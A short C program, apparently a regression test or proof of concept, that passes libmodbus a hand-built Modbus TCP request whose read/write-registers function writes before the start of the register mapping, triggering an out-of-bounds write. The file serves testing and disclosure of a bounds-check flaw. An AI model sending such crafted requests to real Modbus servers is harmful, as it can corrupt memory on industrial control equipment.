#include "modbus.h"

int main(void) {
    modbus_t *ctx = modbus_new_tcp("127.0.0.1", 1502);
    modbus_mapping_t *mapping = modbus_mapping_new_start_address(0, 0, 0, 0, 0x160, 32, 0, 0);
    /* Function 0x17: read one register at 0x162, write one at 0x15d, which is before the first. */
    uint8_t request[] = {0, 1, 0, 0, 0, 13, 255, 0x17, 0x01, 0x62, 0, 1, 0x01, 0x5d, 0, 1, 2, 0xaa, 0xbd};
    modbus_reply(ctx, request, sizeof request, mapping);
}
